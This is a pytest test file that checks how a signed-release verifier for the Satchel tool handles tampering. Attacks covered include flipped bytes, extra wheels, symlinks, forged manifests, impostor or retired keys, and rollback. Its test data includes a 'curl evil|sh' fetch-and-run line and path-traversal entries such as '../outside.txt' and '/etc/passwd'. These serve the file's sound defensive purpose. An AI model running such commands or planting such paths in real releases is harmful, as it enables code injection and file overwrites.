"""Attacks on a release of Satchel passed hand to hand (docs/security.md "Releases").

A release folder on a stranger's stick may have been changed to carry other code.
`verify_release` must refuse every change, naming the file, before anything of it
is installed or run; and a release older than the running Satchel is never
offered as an update (rollback). Each test builds the release with throwaway keys
(tests/releases.py), attacks it, asserts the exact refusal, then that verifying
changed nothing on disk.
"""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import pytest

from bundles import chain as chains
from bundles import dsse, jsonio
from bundles.errors import ReleaseChanged, ReleaseError
from bundles.keys import SigningKey
from bundles.release import (
    MANIFEST,
    RELEASE_TYPE,
    ReleaseManifest,
    list_files,
    sign_release,
    verify_release,
)
from reader.release import NEWER, OLDER, SAME, check_release
from tests.releases import contents, make_release, release_key, rotated, snapshot

KEY = release_key()
TRUSTED = KEY.chain


@pytest.fixture()
def release(tmp_path: Path) -> Path:
    return make_release(tmp_path / "satchel-9.9.9", KEY)


def refused(folder: Path, trusted: list[bytes] | tuple[bytes, ...] = TRUSTED,
            kind: type[ReleaseError] = ReleaseError) -> str:
    """The refusal's message; verifying left every file as it was."""
    before = snapshot(folder)
    with pytest.raises(kind) as caught:
        verify_release(folder, trusted)
    assert snapshot(folder) == before
    assert str(folder) in caught.value.message
    return caught.value.message


def forge(folder: Path, key, files: list[dict], **fields: object) -> None:
    """Sign a manifest of the attacker's choosing with `key` (a signer's mistake, or
    a test of what the reader accepts from a trusted key)."""
    payload = {"type": "release", "format_version": 1, "name": "satchel",
               "version": "9.9.9", "created": "2026-12-01T00:00:00Z", "files": files, **fields}
    envelope = dsse.sign(RELEASE_TYPE, jsonio.dumps(payload), [key.signing_key])
    (folder / MANIFEST).write_bytes(envelope.to_bytes())


def listed(folder: Path) -> list[dict]:
    return [f.to_dict() for f in list_files(folder)]


def test_untouched_release_verifies(release: Path) -> None:
    verified = verify_release(release, TRUSTED)
    assert verified.version == "9.9.9"
    assert [f.path for f in verified.manifest.files] == sorted(contents("9.9.9"))
    assert verified.chain.publisher_id == KEY.publisher_id


# -- tampered, missing, extra ---------------------------------------------------------

@pytest.mark.parametrize("name", sorted(contents("9.9.9")))
def test_flipped_byte_in_any_file_is_refused_naming_it(release: Path, name: str) -> None:
    # Attack: other code in the standalone build, a wheel, an install script.
    path = release / name
    data = bytearray(path.read_bytes())
    if not data:
        path.write_bytes(b"x")  # the empty file gains a byte instead
    else:
        data[len(data) // 2] ^= 0x01
        path.write_bytes(bytes(data))
    message = refused(release, kind=ReleaseChanged)
    assert f"file {name!r}" in message
    assert "the release was changed after it was signed" in message


def test_same_size_changed_file_is_refused_by_its_hash(release: Path) -> None:
    path = release / "install.sh"
    path.write_bytes(b"#!/bin/sh\ncurl evil|sh\n"[:len(path.read_bytes())].ljust(
        len(path.read_bytes()), b" "))
    assert "its SHA-256 does not match" in refused(release)


def test_truncated_file_is_refused_by_its_size(release: Path) -> None:
    path = release / "wheels" / "satchel-9.9.9-py3-none-any.whl"
    path.write_bytes(path.read_bytes()[:100])
    message = refused(release)
    assert "'wheels/satchel-9.9.9-py3-none-any.whl' is 100 bytes, but the signed manifest " \
           "says 3,000" in message


def test_missing_file_is_refused_naming_it(release: Path) -> None:
    (release / "install.bat").unlink()
    assert "file 'install.bat' is missing" in refused(release, kind=ReleaseChanged)


@pytest.mark.parametrize("extra", ["run-me.sh", "wheels/evil-1.0-py3-none-any.whl",
                                   "release-keys/root.1.dsse.json.bak", "a/b/c.txt"])
def test_extra_file_is_refused_naming_it(release: Path, extra: str) -> None:
    # Attack: an extra wheel pip would pick up from the wheelhouse, a script beside ours.
    path = release.joinpath(*extra.split("/"))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"#!/bin/sh\n")
    message = refused(release, kind=ReleaseChanged)
    assert repr(extra) in message and "not part of the release" in message


def test_missing_manifest_is_refused(release: Path) -> None:
    (release / MANIFEST).unlink()
    assert "file 'release.dsse.json' is missing" in refused(release)


def test_missing_key_chain_is_refused(release: Path) -> None:
    for path in (release / "release-keys").iterdir():
        path.unlink()
    (release / "release-keys").rmdir()
    assert "'release-keys' (the release key chain) is missing" in refused(release)


# -- links -----------------------------------------------------------------------------

def test_listed_file_replaced_by_a_link_is_refused(release: Path, tmp_path: Path) -> None:
    # Attack: the link points at a genuine copy now, and at something else later (or
    # out of the folder: a reader must never hash, copy or install through a link).
    outside = tmp_path / "elsewhere.sh"
    outside.write_bytes((release / "install.sh").read_bytes())
    (release / "install.sh").unlink()
    (release / "install.sh").symlink_to(outside)
    assert "'install.sh' is a link" in refused(release, kind=ReleaseChanged)


def test_linked_folder_is_refused(release: Path, tmp_path: Path) -> None:
    real = tmp_path / "wheels-elsewhere"
    (release / "wheels").rename(real)
    (release / "wheels").symlink_to(real, target_is_directory=True)
    assert "'wheels' is a link" in refused(release, kind=ReleaseChanged)


def test_linked_manifest_and_keys_are_refused(release: Path, tmp_path: Path) -> None:
    moved = tmp_path / "manifest.json"
    (release / MANIFEST).rename(moved)
    (release / MANIFEST).symlink_to(moved)
    assert "'release.dsse.json' is not a plain file" in refused(release)


def test_release_folder_that_is_a_link_is_refused(release: Path, tmp_path: Path) -> None:
    link = tmp_path / "link-to-release"
    link.symlink_to(release, target_is_directory=True)
    with pytest.raises(ReleaseError, match="is not a folder \\(it is a link\\)"):
        verify_release(link, TRUSTED)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_pipe_in_the_folder_is_refused_without_blocking(release: Path) -> None:
    os.mkfifo(release / "feed-me")
    assert "'feed-me' is not a plain file" in refused(release)


# -- the manifest's own rules (what even a signed manifest may not say) ----------------

@pytest.mark.parametrize(("path", "reason"), [
    ("../outside.txt", "'..' segment"),
    ("wheels/../../etc/passwd", "'..' segment"),
    ("/etc/passwd", "absolute path"),
    ("C:/Windows/evil.bat", "drive letter"),
    ("wheels\\evil.whl", "backslash"),
    ("./install.sh", "'.' segment"),
    ("wheels//x.whl", "empty segment"),
    ("NUL.txt", "cannot be written on Windows"),
    ("install.sh ", "cannot be written on Windows"),
    ("release-keys/root.2.dsse.json", "the release keys' own"),
    ("release.dsse.json", "the manifest's"),
    ("caf\u0065\u0301.txt", "not NFC"),
    ("evil\u202etxt.sh", "control character"),
])
def test_path_traversal_and_unsafe_paths_in_a_signed_manifest_are_refused(
        release: Path, path: str, reason: str) -> None:
    files = [*listed(release), {"path": path, "size": 0, "sha256": "0" * 64}]
    files.sort(key=lambda f: f["path"].encode())
    forge(release, KEY, files)
    message = refused(release)
    assert reason in message, message
    assert repr(path) in message


def test_paths_equal_but_for_case_are_refused(release: Path) -> None:
    # On Windows and macOS the two would be one file: which one was checked?
    files = listed(release)
    files.append({**files[0], "path": files[0]["path"].upper()})
    files.sort(key=lambda f: f["path"].encode())
    forge(release, KEY, files)
    assert "only in case" in refused(release)


def test_file_that_is_also_a_folder_is_refused(release: Path) -> None:
    files = [*listed(release), {"path": "wheels", "size": 0, "sha256": "0" * 64}]
    files.sort(key=lambda f: f["path"].encode())
    forge(release, KEY, files)
    assert "'wheels' is also a folder" in refused(release)


@pytest.mark.parametrize(("fields", "reason"), [
    ({"version": "9.9"}, "not MAJOR.MINOR.PATCH"),
    ({"version": "09.9.9"}, "not MAJOR.MINOR.PATCH"),
    ({"version": "9.9.9\n"}, "not MAJOR.MINOR.PATCH"),
    ({"name": "satchel-evil"}, "not 'satchel'"),
    ({"format_version": 2}, "unknown release format version"),
    ({"format_version": 1.0}, "unknown release format version"),
    ({"extra": True}, "unknown ['extra']"),
])
def test_manifest_fields_out_of_the_rules_are_refused(release: Path, fields: dict,
                                                      reason: str) -> None:
    forge(release, KEY, listed(release), **fields)
    assert reason in refused(release)


@pytest.mark.parametrize(("change", "reason"), [
    ({"size": -1}, "size must be an integer"),
    ({"size": 2**32}, "size must be an integer"),
    ({"size": True}, "size must be an integer"),
    ({"sha256": "A" * 64}, "64 lowercase hex"),
    ({"extra": 1}, "exactly path, size and sha256"),
])
def test_file_entries_out_of_the_rules_are_refused(release: Path, change: dict,
                                                    reason: str) -> None:
    files = listed(release)
    files[0] = {**files[0], **change}
    forge(release, KEY, files)
    assert reason in refused(release)


def test_unsorted_manifest_is_refused(release: Path) -> None:
    forge(release, KEY, list(reversed(listed(release))))
    assert "not sorted by path" in refused(release)


def test_oversized_manifest_is_refused_before_it_is_read(release: Path) -> None:
    with open(release / MANIFEST, "ab") as handle:
        handle.truncate(17 * 1024 * 1024)
    assert "over 16,777,216" in refused(release)


# -- keys: another key, rotation, rollback of the key, revocation ---------------------

def test_release_signed_by_another_key_is_refused(tmp_path: Path) -> None:
    # Attack: a look-alike "Satchel releases" key, carrying its own chain.
    impostor = release_key(seed=99, name="Satchel releases")
    folder = make_release(tmp_path / "r", impostor)
    message = refused(folder)
    assert "signed by another key than the Satchel release key" in message


def test_genuine_chain_with_a_manifest_signed_by_another_key_is_refused(release: Path
                                                                        ) -> None:
    impostor = release_key(seed=99)
    forge(release, impostor, listed(release))
    message = refused(release)
    assert "release.dsse.json is not signed by the Satchel release key" in message


def test_payload_type_of_another_kind_is_refused(release: Path) -> None:
    # Attack: a genuinely signed envelope of another kind (a root) put in the manifest's
    # place; its signature verifies, its type does not.
    (release / MANIFEST).write_bytes(KEY.chain[0])
    assert "payload type is 'application/vnd.satchel.root+json;v=1'" in refused(release)


def test_tampered_root_in_the_carried_chain_is_refused(release: Path) -> None:
    root = release / "release-keys" / "root.1.dsse.json"
    document = json.loads(root.read_bytes())
    payload = json.loads(base64.b64decode(document["payload"]))
    payload["name"] = "Satchel releases (new!)"
    document["payload"] = base64.b64encode(jsonio.dumps(payload)).decode()
    root.write_text(json.dumps(document))
    assert "the release key chain is broken" in refused(release)


def test_rotated_release_key_is_accepted_through_the_chain(tmp_path: Path) -> None:
    # The project moves to a new key: the release carries root.2 (signed by the old key
    # and the new), and a Satchel that trusts root.1 only accepts it.
    new = rotated(KEY, seed=72)
    folder = make_release(tmp_path / "r", new)
    verified = verify_release(folder, TRUSTED)
    assert len(verified.chain.roots) == 2
    assert verified.chain.publisher_id == KEY.publisher_id  # the same release key


def test_release_signed_by_a_retired_key_is_refused_once_the_key_rotated(tmp_path: Path
                                                                          ) -> None:
    # Attack: a thief of the old key signs a release; a Satchel that knows of the
    # rotation (root.2 built in) refuses the old key.
    new = rotated(KEY, seed=72)
    folder = make_release(tmp_path / "r", KEY)
    message = refused(folder, trusted=new.chain)
    assert "signed by a retired release key" in message


def test_another_history_of_the_release_key_is_refused(tmp_path: Path) -> None:
    # Attack: the old key's thief makes their own root.2 for their own key.
    ours = rotated(KEY, seed=72)
    theirs = rotated(KEY, seed=73)
    folder = make_release(tmp_path / "r", theirs)
    assert "another history of the release key" in refused(folder, trusted=ours.chain)


def test_revoked_release_key_accepts_nothing(tmp_path: Path) -> None:
    folder = make_release(tmp_path / "r", KEY)
    revoked = [*KEY.chain, chains.rotate(KEY.chain, KEY.signing_key, None)]
    assert "the Satchel release key was revoked" in refused(folder, trusted=revoked)


def test_chain_with_a_gap_is_refused(tmp_path: Path) -> None:
    new = rotated(KEY, seed=72)
    folder = make_release(tmp_path / "r", new)
    (folder / "release-keys" / "root.1.dsse.json").unlink()
    assert "has gaps or no root.1" in refused(folder)


# -- rollback ----------------------------------------------------------------------------

@pytest.mark.parametrize(("version", "running", "relation"), [
    ("9.9.9", "9.9.8", NEWER), ("9.10.0", "9.9.9", NEWER), ("10.0.0", "9.99.99", NEWER),
    ("9.9.9", "9.9.9", SAME),
    ("9.9.8", "9.9.9", OLDER), ("9.9.9", "9.10.0", OLDER), ("1.0.0", "10.0.0", OLDER),
])
def test_rollback_release_is_older_never_newer(tmp_path: Path, version: str, running: str,
                                               relation: str) -> None:
    # Attack: an old, genuinely signed release with a known hole, passed on as "Satchel".
    # Versions compare as numbers (9.10 is after 9.9), never as text.
    folder = make_release(tmp_path / "r", KEY, version=version)
    check = check_release(folder, TRUSTED, running=running)
    assert check.ok and check.relation == relation


def test_signing_refuses_a_release_holding_a_link(tmp_path: Path) -> None:
    folder = tmp_path / "r"
    folder.mkdir()
    (folder / "a.txt").write_text("a")
    (folder / "b.txt").symlink_to(folder / "a.txt")
    with pytest.raises(ReleaseError, match="'b.txt' is a link"):
        sign_release(folder, KEY, "1.0.0", "2026-12-01T00:00:00Z")
    assert not (folder / MANIFEST).exists()


def test_manifest_round_trips_as_signed(release: Path) -> None:
    envelope = dsse.Envelope.from_bytes((release / MANIFEST).read_bytes(), cap=1 << 24)
    manifest = ReleaseManifest.from_payload(envelope.payload)
    assert manifest.to_bytes() == envelope.payload
    assert SigningKey  # the release key types are the bundles' own
